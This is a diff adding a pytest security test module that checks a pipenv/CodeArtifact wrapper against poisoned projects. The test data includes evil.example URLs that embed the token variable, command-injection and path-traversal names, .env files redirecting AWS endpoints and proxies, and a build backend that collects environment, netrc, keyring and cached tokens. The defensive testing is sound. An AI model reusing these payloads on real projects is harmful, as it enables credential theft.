@@ -1,0 +1,638 @@
+"""A poisoned project: what it names gets no token, no request of ours, and is not run."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import threading
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from support import PIPENV_CA, PYPI_SOURCE, Result, run, source, write_pipfile
+from support_runs import KEYRING, TOKEN_VARIABLE, Calls, StandIn, assert_error, get_token
+from support_sandbox import FakePublicIndex, FakePublicIndexHandler
+
+from codeartifact_pipenv.sandbox.sandbox import Sandbox
+from codeartifact_pipenv.sandbox.wheels import make_wheel
+from codeartifact_pipenv.settings import SETTINGS
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from pathlib import Path
+
+pytestmark = pytest.mark.endurance
+
+STRAY = f"https://evil.example/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl"
+PRIVATE = '[packages]\norb-common = "*"\n'
+
+
+@pytest.fixture(scope="module")
+def world(
+    tmp_path_factory: pytest.TempPathFactory, clean_base: dict[str, str]
+) -> Iterator[Sandbox]:
+    """A CodeArtifact with one private package and nothing behind it."""
+    wheel = make_wheel(tmp_path_factory.mktemp("packages"), "orb-common", "2.0.0")
+    with Sandbox(domain="my-dom", repository="team", base=clean_base, upstream=False) as sandbox:
+        sandbox.publish(wheel)
+        yield sandbox
+
+
+class _Handler(FakePublicIndexHandler):
+    def do_GET(self) -> None:  # noqa: N802 - the base class's name
+        assert isinstance(self.server, Evil)
+        self.server.heads.append(f"{self.path} {self.headers.as_string()}")
+        target = self.server.moved.get(self.path)
+        if target is None:
+            super().do_GET()
+            return
+        self.send_response(302)
+        self.send_header("Location", target)
+        self.send_header("Content-Length", "0")
+        self.end_headers()
+
+
+class Evil(FakePublicIndex):
+    """A stranger's index on this machine, which writes down all that it is sent."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.RequestHandlerClass = _Handler
+        self.heads: list[str] = []
+        self.moved: dict[str, str] = {}
+        self.root = self.url.removesuffix("/simple/")
+
+    def __enter__(self) -> Evil:  # noqa: PYI034 - as the base class has it
+        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self.shutdown()
+        self.server_close()
+
+    def has_credentials(self, token: str) -> list[str]:
+        """Return what it was sent that is a token or a login."""
+        return [
+            head for head in self.heads if token[:60] in head or "authorization" in head.lower()
+        ]
+
+
+class Poisoned:
+    """A cloned project."""
+
+    def __init__(self, world: Sandbox, env: dict[str, str], folder: Path) -> None:
+        self.world = world
+        self.env = env
+        self.folder = folder
+        self.token = get_token(world, env, folder)
+        self.pipenv = StandIn(folder.parent / "bin", _LOOK)
+        # One that shows no token in its arguments: it would get one, were it not for the poison.
+        version = folder.parent / "lib" / "python3" / "site-packages" / "pipenv" / "__version__.py"
+        version.parent.mkdir(parents=True)
+        version.write_text('__version__ = "2026.10.3"\n')
+        self.write(source(world.endpoint), PRIVATE)
+
+    def write(self, *tables: str) -> None:
+        write_pipfile(self.folder, *tables)
+
+    def file(self, name: str, text: str) -> Path:
+        path = self.folder / name
+        path.write_text(text)
+        return path
+
+    def lock(self, **changes: Any) -> None:
+        """Write a lock with something more in it."""
+        url = source(self.world.endpoint).split('"')[1]
+        sources = [{"name": "codeartifact", "url": url, "verify_ssl": True}]
+        meta = {"hash": {"sha256": "0" * 64}, "sources": sources, "requires": {}, "pipfile-spec": 6}
+        document = {"_meta": meta, "default": {}, "develop": {}}
+        for name, value in changes.items():
+            if name == "sources":
+                sources += value
+            else:
+                document[name] = value
+        self.file("Pipfile.lock", json.dumps(document))
+
+    def __call__(self, *words: str, **env: str) -> Result:
+        """Run a command with a program in pipenv's place that writes down what it was given."""
+        options = self.env | env | {"PIPENV_CA_PIPENV": str(self.pipenv.path)}
+        return run(PIPENV_CA, *words, env=options, cwd=self.folder)
+
+    def refused(self, *words: str, parts: tuple[str, ...] = (), **env: str) -> None:
+        """Run a command that is refused before anybody is asked or anything is run."""
+        calls = Calls(self.world)
+        done = self(*words, **env)
+        assert_error(done, 2, *parts)
+        assert self.token not in done.output
+        assert not self.pipenv.was_run
+        assert calls.to_aws() == 0
+
+    def gets_no_token(self, *words: str, **env: str) -> None:
+        """Run a command for which pipenv gets a loopback index and no token, by any way."""
+        done = self(*words, **env)
+        assert done.status == 0, done.output
+        record = self.pipenv.record
+        assert [n for n, value in record["environ"].items() if self.token in value] == []
+        assert self.token not in record["netrc"]
+        assert "login pipenv-ca " in record["netrc"]
+
+
+_LOOK = """
+record["netrc"] = open(os.environ["NETRC"]).read() if "NETRC" in os.environ else ""
+"""
+
+
+@pytest.fixture(scope="module")
+def tokens(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return a token cache for all tests of this module."""
+    return tmp_path_factory.mktemp("cache") / "tokens"
+
+
+@pytest.fixture
+def poisoned(world: Sandbox, clean_env: dict[str, str], project: Path, tokens: Path) -> Poisoned:
+    env = world.environ(clean_env) | {"PIPENV_CA_CACHE_DIR": str(tokens)}
+    return Poisoned(world, env, project)
+
+
+@pytest.fixture
+def evil() -> Iterator[Evil]:
+    with Evil() as server:
+        yield server
+
+
+# --- a token's variable where it does not belong -------------------------------------------------
+
+
+def _pipfile(text: str) -> Callable[[Poisoned], None]:
+    return lambda p: p.write(source(p.world.endpoint), f"[packages]\n{text}\n")
+
+
+def _foreign_source(url: str) -> Callable[[Poisoned], None]:
+    table = f'[[source]]\nurl = "{url}"\nverify_ssl = true\nname = "evil"\n'
+    return lambda p: p.write(source(p.world.endpoint), table, PRIVATE)
+
+
+def _file(name: str, text: str) -> Callable[[Poisoned], None]:
+    def write(p: Poisoned) -> None:
+        p.file(name, text)
+
+    return write
+
+
+def _lock_source(p: Poisoned) -> None:
+    p.lock(sources=[{"name": "evil", "url": STRAY, "verify_ssl": True}])
+
+
+STRAYS: dict[str, Callable[[Poisoned], None]] = {
+    "a second source": _foreign_source(f"https://aws:${{{TOKEN_VARIABLE}}}@evil.example/simple"),
+    "a host that looks alike": _foreign_source(
+        f"https://aws:${{{TOKEN_VARIABLE}}}@my-dom-123456789012.d.codeartifact.us-east-1."
+        "amazonaws.com.evil.example/pypi/team/simple/"
+    ),
+    "the username": _foreign_source(f"https://${TOKEN_VARIABLE}@evil.example/simple"),
+    "the path": _foreign_source(f"https://evil.example/${TOKEN_VARIABLE}/simple"),
+    "another spelling": _foreign_source("https://evil.example/\\u0024{CODEARTIFACT_AUTH_TOKEN}/"),
+    "Windows' spelling": _foreign_source(f"https://evil.example/%{TOKEN_VARIABLE}%/simple"),
+    "file": _pipfile(f'x = {{file = "{STRAY}"}}'),
+    "path": _pipfile(f'x = {{path = "./${TOKEN_VARIABLE}"}}'),
+    "git": _pipfile(f'x = {{git = "https://${{{TOKEN_VARIABLE}}}@evil.example/x.git"}}'),
+    "a name of a package": _pipfile(f'"x @ {STRAY}" = "*"'),
+    "a version": _pipfile(f'x = "@ {STRAY}"'),
+    "another category": lambda p: p.write(
+        source(p.world.endpoint), PRIVATE, f'[docs]\nx = {{file = "{STRAY}"}}\n'
+    ),
+    "a source of the lock": _lock_source,
+    "file in the lock": lambda p: p.lock(default={"x": {"file": STRAY}}),
+    "a name in the lock": lambda p: p.lock(develop={f"x @ {STRAY}": {"version": "*"}}),
+    "git in the lock": lambda p: p.lock(docs={"x": {"git": STRAY, "ref": "main"}}),
+    "pylock.toml": _file("pylock.toml", f'[[packages]]\nname = "x"\nindex = "{STRAY}"\n'),
+    "a named pylock": _file(
+        "pylock.dev.toml", f'[[packages]]\nname = "x"\narchive = {{url = "{STRAY}"}}\n'
+    ),
+    ".env": _file(".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
+    ".env with a default": _file(".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
+}
+
+
+@pytest.mark.parametrize("place", STRAYS)
+def test_stray_variable(place: str, poisoned: Poisoned) -> None:
+    """A token's variable anywhere that pipenv or pip expands it is refused, file and place told."""
+    STRAYS[place](poisoned)
+    poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
+
+
+@pytest.mark.parametrize("route", ["", "loopback", "as-written"])
+def test_requirements_file(route: str, poisoned: Poisoned) -> None:
+    """For `install -r` pipenv gets no token: pip fills variables in such files, wherever they lead."""
+    poisoned.file("r.txt", f"x @ {STRAY}\n-r https://evil.example/more.txt\n")
+    env = {"PIPENV_CA_ROUTE": route}
+    for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
+        if route == "as-written":
+            poisoned.refused("install", *words, parts=("a requirements file",), **env)
+        else:
+            poisoned.gets_no_token("install", *words, **env)
+    if not route:
+        poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)
+
+
+FOLLOWED = (
+    *("PIP_USER_AGENT_USER_DATA", "https_proxy", "PATH", "GIT_SSH_COMMAND"),
+    *("AWS_SECRET_ACCESS_KEY", "A=B", "A\\u0000B", ""),
+)
+
+
+@pytest.mark.parametrize("name", FOLLOWED)
+def test_variable_that_programs_follow(name: str, poisoned: Poisoned) -> None:
+    """A token is put into no variable that has a meaning of its own, nor into no name at all."""
+    poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
+    # (A variable that is set may make a URL that cannot be read; that is told first.)
+    poisoned.refused("lock", parts=() if name.lower() == "https_proxy" else ("wants the token in",))
+
+
+@pytest.mark.parametrize("name", ["ACME_INDEX_PASSWORD", "PIPENV_ACME_TOKEN", "x", "CA_TOKEN"])
+def test_variable_of_ones_own(name: str, poisoned: Poisoned) -> None:
+    """Names as people have them hold the token as ever."""
+    poisoned.write(source(poisoned.world.endpoint, f"aws:${{{name}}}@"), PRIVATE)
+    assert poisoned("lock").status == 0
+    assert poisoned.pipenv.record["environ"][name] == poisoned.token
+
+
+# --- how the token would travel -------------------------------------------------------------------
+
+CONNECTIONS = (
+    *("PIP_CERT", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE", "SSL_CERT_DIR"),
+    *("PIP_TRUSTED_HOST", "PIP_CONFIG_FILE", "PIP_REQUIREMENT", "PIP_CONSTRAINT", "PIP_PYTHON"),
+    *("SSLKEYLOGFILE", "PIP_KEYRING_PROVIDER", "PIP_CLIENT_CERT"),
+)
+
+
+@pytest.mark.parametrize("name", CONNECTIONS)
+def test_dotenv_that_says_whom_to_trust(name: str, poisoned: Poisoned, evil: Evil) -> None:
+    """Where .env has a say in whom pip trusts, the token stays with us, or nothing is run."""
+    poisoned.file("ca.pem", "")
+    poisoned.file(".env", f"{name}=./ca.pem\nHTTPS_PROXY={evil.root}\n")
+    words = ("run", "pip", "install", "-i", poisoned.world.endpoint.simple_url, "orb-common")
+    poisoned.refused(*words, parts=(name,))
+    poisoned.gets_no_token("sync")
+    assert evil.heads == []
+
+
+def test_dotenv_with_a_route_of_the_users(poisoned: Poisoned) -> None:
+    """The route as written, where it is asked for, and such a .env are refused."""
+    poisoned.file(".env", "PIP_CERT=./ca.pem\n")
+    poisoned.refused("--ca-route", "as-written", "sync", parts=("PIP_CERT",))
+    poisoned.gets_no_token("run", "pip", "install", "x")
+
+
+def test_unverified_source(poisoned: Poisoned) -> None:
+    """A repository whose certificate pip is told not to check gets its token from us alone."""
+    table = source(poisoned.world.endpoint).replace("verify_ssl = true", "verify_ssl = false")
+    poisoned.write(table, PRIVATE)
+    poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
+    poisoned.gets_no_token("sync")
+
+
+def test_unverified_source_of_the_lock(poisoned: Poisoned) -> None:
+    """The lock's word that a certificate is not to be checked counts as much."""
+    url = source(poisoned.world.endpoint).split('"')[1]
+    poisoned.lock(sources=[{"name": "codeartifact", "url": url, "verify_ssl": False}])
+    poisoned.gets_no_token("sync")
+
+
+@pytest.mark.parametrize("name", ["NO_PROXY", "no_proxy", "PIP_PROXY"])
+def test_dotenv_that_turns_loopback_to_a_proxy(name: str, poisoned: Poisoned, evil: Evil) -> None:
+    """A .env by which pip would ask a stranger's proxy for our own index is refused."""
+    poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
+    poisoned.file(".env", f"HTTP_PROXY={evil.root}\n{name}={evil.root}\n")
+    poisoned.refused("lock", parts=(name,))
+    assert evil.heads == []
+
+
+@pytest.mark.parametrize(
+    "name", ["NETRC", "TMPDIR", "PIPENV_PYPI_MIRROR", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL"]
+)
+def test_dotenv_over_what_is_given(name: str, poisoned: Poisoned) -> None:
+    """A .env that would be loaded over what pipenv is given is refused."""
+    poisoned.write(source(poisoned.world.endpoint), PYPI_SOURCE, PRIVATE)
+    poisoned.file(".env", f"{name}=https://evil.example/simple\n")
+    poisoned.refused("lock", parts=(name,))
+
+
+# --- what would be run, and who would be asked -------------------------------------------------------
+
+
+def test_dotenv_of_aws_and_of_ours(poisoned: Poisoned, evil: Evil, tmp_path: Path) -> None:
+    """What .env says of AWS and of our own settings is not followed by us, nor run."""
+    marker = tmp_path / "was-run"
+    program = poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n")
+    program.chmod(0o755)
+    poisoned.file("config", f"[default]\ncredential_process = {program}\n[profile p]\n")
+    poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
+    poisoned.file(
+        ".env",
+        f"AWS_CONFIG_FILE={poisoned.folder}/config\nAWS_SHARED_CREDENTIALS_FILE=/dev/null\n"
+        f"AWS_PROFILE=p\nAWS_ENDPOINT_URL={evil.root}\nAWS_ENDPOINT_URL_CODEARTIFACT={evil.root}\n"
+        f"AWS_CA_BUNDLE=./ca.pem\nAWS_ACCESS_KEY_ID=AKIAEVIL\nAWS_SECRET_ACCESS_KEY=x\n"
+        f"PYTHONPATH={poisoned.folder}\nPYTHON_KEYRING_BACKEND=evil_backend.Backend\n"
+        f"PIPENV_CA_PIPENV={program}\nPIPENV_CA_KEYRING_BACKEND=evil_backend.Backend\n"
+        f"PIPENV_CA_CACHE_DIR={poisoned.folder}/tokens\nPIPENV_CA_CONFIG=./config.toml\n"
+        f"PIPENV_CA_ALLOWED_OWNERS=999999999999\nPIPENV_CA_ROUTE=as-written\n",
+    )
+    calls = Calls(poisoned.world)
+    poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
+    done = poisoned("lock")
+    assert done.status == 0, done.output
+    assert calls.callers() == [poisoned.world.user.access_key_id]
+    assert not marker.exists()
+    assert evil.heads == []
+    assert not (poisoned.folder / "tokens").exists()
+
+
+PERSONAL = {
+    "pipenv": '"./program"',
+    "keyring-backend": '"evil_backend.Backend"',
+    "allowed-owners": '["999999999999"]',
+    "no-cache": "true",
+    "cache-dir": '"."',
+}
+
+
+@pytest.mark.parametrize("name", PERSONAL)
+def test_setting_that_a_project_may_not_make(name: str, poisoned: Poisoned, tmp_path: Path) -> None:
+    """A project's file that names a program, a backend, accounts or folders is refused."""
+    assert set(PERSONAL) == {setting.name for setting in SETTINGS.values() if setting.personal}
+    marker = tmp_path / "was-run"
+    poisoned.file("program", f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
+    poisoned.file("evil_backend.py", f"open({str(marker)!r}, 'w')\n")
+    poisoned.file("pyproject.toml", f"[tool.codeartifact-pipenv]\n{name} = {PERSONAL[name]}\n")
+    poisoned.refused("lock", parts=("may not choose",))
+    words = (KEYRING, "get", poisoned.world.endpoint.simple_url, "aws")
+    got = run(*words, env=poisoned.env, cwd=poisoned.folder)
+    assert (got.status, got.stdout.strip()) == (0, poisoned.token)
+    assert not marker.exists()
+
+
+def test_foreign_owner(poisoned: Poisoned) -> None:
+    """With a list of allowed accounts, a domain of any other is not asked for a token."""
+    env = {"PIPENV_CA_ALLOWED_OWNERS": "111111111111", "PIPENV_CA_REFRESH": "1"}
+    calls = Calls(poisoned.world)
+    done = poisoned("lock", **env)
+    assert_error(done, 2, "belongs to an account that is not allowed")
+    assert not poisoned.pipenv.was_run
+    words = (KEYRING, "get", poisoned.world.endpoint.simple_url, "aws")
+    got = run(*words, env=poisoned.env | env, cwd=poisoned.folder)
+    assert (got.status, got.stdout) == (1, "")
+    assert "not allowed" in got.stderr
+    assert calls.count() == 0
+
+
+def test_looking_runs_nothing(poisoned: Poisoned, tmp_path: Path) -> None:
+    """doctor, lint and the keyring run no module and no interpreter that came with the project."""
+    marker = tmp_path / "was-run"
+    code = f"import os\nos.close(os.open({str(marker)!r}, os.O_CREAT))\n"
+    for name in (
+        "platform",
+        "csv",
+        "email",
+        "zipfile",
+        "json",
+        "keyring",
+        "pip",
+        "re",
+        "sitecustomize",
+    ):
+        poisoned.file(f"{name}.py", code)
+    place = poisoned.folder / ".venv" / "bin"
+    place.mkdir(parents=True)
+    (place / "python").write_text(f"#!/bin/sh\ntouch {marker}\n")
+    (place / "python").chmod(0o755)
+    (place / "activate").write_text(f"touch {marker}\n")
+    (place.parent / "pyvenv.cfg").write_text("version = 3.9.1\nhome = /nowhere\n")
+    for words in (
+        (PIPENV_CA, "doctor", "--offline"),
+        (PIPENV_CA, "lint"),
+        (PIPENV_CA, "token"),
+        (PIPENV_CA, "login", "pip", "--dry-run"),
+        (KEYRING, "get", poisoned.world.endpoint.host, "aws"),
+    ):
+        done = run(*words, env=poisoned.env, cwd=poisoned.folder)
+        assert "Traceback" not in done.stderr
+        assert not marker.exists(), words
+
+
+def test_program_of_the_current_folder(poisoned: Poisoned, tmp_path: Path) -> None:
+    """With a dot in PATH, a pipenv or keyring that came with the project is not taken."""
+    marker = tmp_path / "was-run"
+    for name in ("pipenv", "keyring", "pip", "twine", "python"):
+        poisoned.file(name, f"#!/bin/sh\ntouch {marker}\n").chmod(0o755)
+    env = poisoned.env | {"PATH": f".{os.pathsep}{os.environ['PATH']}"}
+    done = run(PIPENV_CA, "lock", env=env | {"PIPENV_CA_PIPENV": "pipenv"}, cwd=poisoned.folder)
+    assert_error(done, 127, "There is no pipenv on PATH")
+    for words in (("doctor", "--offline"), ("login", "pip", "--dry-run")):
+        run(PIPENV_CA, *words, env=env, cwd=poisoned.folder)
+    assert not marker.exists()
+
+
+def test_script_named_pip(poisoned: Poisoned) -> None:
+    """A script of the Pipfile that is called pip, and is something else, is run without a token."""
+    poisoned.write(source(poisoned.world.endpoint), PRIVATE, '[scripts]\npip = "sh evil.sh"\n')
+    assert poisoned("run", "pip", "install", "x").status == 0
+    record = poisoned.pipenv.record
+    assert poisoned.token not in json.dumps(record)
+
+
+# --- names and files ---------------------------------------------------------------------------
+
+NAMES = (
+    *("../../../etc/passwd", "-r evil.txt", "--index-url=http://evil.example/", "$(touch x)"),
+    *("`touch x`", "a;touch x", "a\\u0000b", "a\\nb", "..", "%2e%2e", "\\u001b[2J", "a/../../b"),
+    *("?x", "#", "https://evil.example/x.whl", "a@b", "\\u202e", " ", ""),
+)
+
+
+def test_malicious_names(poisoned: Poisoned, evil: Evil) -> None:
+    """Names that are paths, options, commands or URLs are words to us: nobody else is asked."""
+    entries = "".join(f'"{name}" = "*"\n' for name in NAMES)
+    table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
+    poisoned.write(source(poisoned.world.endpoint), table, f"[packages]\n{entries}")
+    failing = StandIn(poisoned.folder.parent / "failing", _LOOK, "sys.exit(1)")
+    env = poisoned.env | {"PIPENV_CA_PIPENV": str(failing.path)}
+    before = sorted(poisoned.folder.parent.rglob("*"))
+    for words in (("lock",), ("doctor",), ("lint",), ("fix", "--diff")):
+        done = run(PIPENV_CA, *words, env=env, cwd=poisoned.folder)
+        assert done.status in {0, 1}, (words, done.output)
+        assert "Traceback" not in done.stderr, (words, done.output)
+        assert "\x1b" not in done.output
+    assert {head.partition(" ")[0].split("/")[1] for head in evil.heads} <= {"simple"}
+    assert evil.has_credentials(poisoned.token) == []
+    made = {str(p) for p in set(poisoned.folder.parent.rglob("*")) - set(before)}
+    assert not any(name.endswith("/x") for name in made)
+
+
+@pytest.mark.parametrize("kind", ["a device", "a folder", "a pipe"])
+def test_lock_that_is_no_file(kind: str, poisoned: Poisoned) -> None:
+    """A lock that is a device, a folder or a pipe is refused at once, not read."""
+    path = poisoned.folder / "Pipfile.lock"
+    if kind == "a device":
+        path.symlink_to("/dev/zero")
+    elif kind == "a folder":
+        path.mkdir()
+    else:
+        os.mkfifo(path)
+    poisoned.refused("sync", parts=("is no file",))
+
+
+def test_pipfile_that_leads_elsewhere(poisoned: Poisoned, tmp_path: Path) -> None:
+    """A Pipfile that is a link to another file of the user's leaves that as it was."""
+    other = tmp_path / "secret.toml"
+    other.write_text('password = "hunter2"\n')
+    (poisoned.folder / "Pipfile").unlink()
+    (poisoned.folder / "Pipfile").symlink_to(other)
+    for words in (("lock",), ("doctor", "--offline"), ("lint",), ("fix",)):
+        assert "hunter2" not in poisoned(*words).output
+    assert other.read_text() == 'password = "hunter2"\n'
+
+
+# --- with the real pipenv, beside a stranger's index -------------------------------------------------
+
+
+def test_second_source_and_redirects(
+    poisoned: Poisoned, evil: Evil, tmp_path: Path, figure: Callable[[str, str], None]
+) -> None:
+    """A source that claims the private name, and one that sends pip on, get no token and no login."""
+    with Evil() as other:
+        claimed = make_wheel(tmp_path / "evil", "orb-common", "99.0")
+        public = make_wheel(tmp_path / "evil", "harmless", "1.0", requires=["orb-common"])
+        evil.add("orb-common", claimed)
+        other.add("harmless", public)
+        evil.moved["/simple/harmless/"] = f"{other.url}harmless/"
+        table = f'[[source]]\nurl = "{evil.url}"\nverify_ssl = true\nname = "evil"\n'
+        poisoned.write(table, source(poisoned.world.endpoint), '[packages]\nharmless = "*"\n')
+        poisoned.file("r.txt", f"x @ {evil.root}/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl\n")
+        before = (poisoned.folder / "Pipfile").read_bytes()
+        done = run(PIPENV_CA, "lock", env=poisoned.env, cwd=poisoned.folder)
+        assert done.status == 0, done.output
+        locked = json.loads((poisoned.folder / "Pipfile.lock").read_text())["default"]
+        assert locked["orb-common"]["version"] == "==2.0.0"
+        assert locked["orb-common"]["index"] == "codeartifact"
+        done = run(PIPENV_CA, "sync", env=poisoned.env, cwd=poisoned.folder)
+        assert done.status == 0, done.output
+        # What a requirements file names literally is asked for, and no more.
+        run(PIPENV_CA, "install", "-r", "r.txt", env=poisoned.env, cwd=poisoned.folder)
+        for index in (evil, other):
+            assert index.heads
+            assert index.has_credentials(poisoned.token) == []
+            # (Whether it has the name as well is asked; nothing of it is taken.)
+            assert not any("orb_common-99.0" in head.partition(" ")[0] for head in index.heads)
+        assert (poisoned.folder / "Pipfile").read_bytes() == before
+        figure(
+            "poisoned project: requests to strangers",
+            f"{len(evil.heads) + len(other.heads)}, 0 with a token or a login",
+        )
+
+
+# --- the build code of a private sdist ---------------------------------------------------------------
+
+_BACKEND = """
+import glob, json, netrc, os, subprocess
+def look():
+    seen = {"environ": dict(os.environ), "netrc": "", "keyring": "", "cache": []}
+    try:
+        seen["netrc"] = open(os.environ["NETRC"]).read()
+    except (KeyError, OSError):
+        pass
+    done = subprocess.run([KEYRING, "get", URL, "aws"], capture_output=True, text=True)
+    seen["keyring"] = done.stdout.strip()
+    for path in glob.glob(CACHE + "/*.json"):
+        seen["cache"].append(open(path).read())
+    with open(OUT, "w") as file:
+        json.dump(seen, file)
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+def prepare_metadata_for_build_wheel(folder, config_settings=None):
+    look()
+    place = folder + "/orb_built-1.0.dist-info"
+    os.makedirs(place)
+    open(place + "/METADATA", "w").write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
+    open(place + "/WHEEL", "w").write("Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+    return "orb_built-1.0.dist-info"
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    look()
+    import zipfile
+    name = "orb_built-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(folder + "/" + name, "w") as z:
+        base = "orb_built-1.0.dist-info/"
+        z.writestr(base + "METADATA", "Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
+        z.writestr(base + "WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        z.writestr(base + "RECORD", "")
+    return name
+"""
+
+
+def _sdist(folder: Path, **values: str) -> Path:
+    import tarfile
+
+    tree = folder / "orb_built-1.0"
+    tree.mkdir(parents=True)
+    lines = [f"{name} = {value!r}" for name, value in values.items()]
+    (tree / "backend.py").write_text("\n".join(lines) + _BACKEND)
+    (tree / "pyproject.toml").write_text(
+        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+        '[project]\nname = "orb-built"\nversion = "1.0"\n'
+    )
+    (tree / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n")
+    path = folder / "orb_built-1.0.tar.gz"
+    with tarfile.open(path, "w:gz") as archive:
+        archive.add(tree, tree.name)
+    return path
+
+
+def test_what_build_code_sees(
+    world: Sandbox, poisoned: Poisoned, tmp_path: Path, figure: Callable[[str, str], None]
+) -> None:
+    """The build code of a private sdist: as written it has the token, by loopback a run's password.
+
+    By either way it is the user, and may ask keyring and read the cache of tokens as he does;
+    without AWS's credentials and with no cache there is nothing there.
+    """
+    poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
+    out = tmp_path / "seen.json"
+    simple = world.endpoint.simple_url
+    sdist = _sdist(
+        tmp_path / "sdist",
+        OUT=str(out),
+        URL=simple,
+        KEYRING=KEYRING,
+        CACHE=str(tmp_path / "tokens"),
+    )
+    repository = world.add_repository("built")
+    world.publish(sdist, repository)
+    poisoned.write(source(repository), '[packages]\norb-built = "*"\n')
+    shutil.rmtree(poisoned.folder / ".venv", ignore_errors=True)
+    token = get_token(world, poisoned.env, poisoned.folder)
+
+    def seen(*words: str, **env: str) -> dict[str, Any]:
+        out.unlink(missing_ok=True)
+        # (What pip has built before it does not build again.)
+        fresh = {"PIP_NO_CACHE_DIR": "1", "PIPENV_CACHE_DIR": str(tmp_path / "pc")} | env
+        done = run(PIPENV_CA, *words, env=poisoned.env | fresh, cwd=poisoned.folder)
+        assert done.status == 0, done.output
+        found: dict[str, Any] = json.loads(out.read_text())
+        return found
+
+    written = seen("lock")
+    assert written["environ"][TOKEN_VARIABLE] == token
+    by_loopback = seen("--ca-route", "loopback", "lock", "--clear")
+    assert [n for n, value in by_loopback["environ"].items() if token in value] == []
+    assert token not in by_loopback["netrc"]
+    assert "login pipenv-ca password " in by_loopback["netrc"]
+    for found in (written, by_loopback):
+        assert found["keyring"] == token
+        assert any(token in text for text in found["cache"])
+    # The least: a token that was handed over, no credentials, no cache, and the index on loopback.
+    poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_A")}
+    poisoned.env = {k: v for k, v in poisoned.env.items() if not k.startswith("AWS_S")}
+    shutil.rmtree(tmp_path / "tokens")
+    least = seen("--ca-route", "loopback", "lock", "--clear", **{TOKEN_VARIABLE: token})
+    assert token not in json.dumps(least)
+    figure("build code of a private sdist", "as written: token; loopback: none but as the user has")
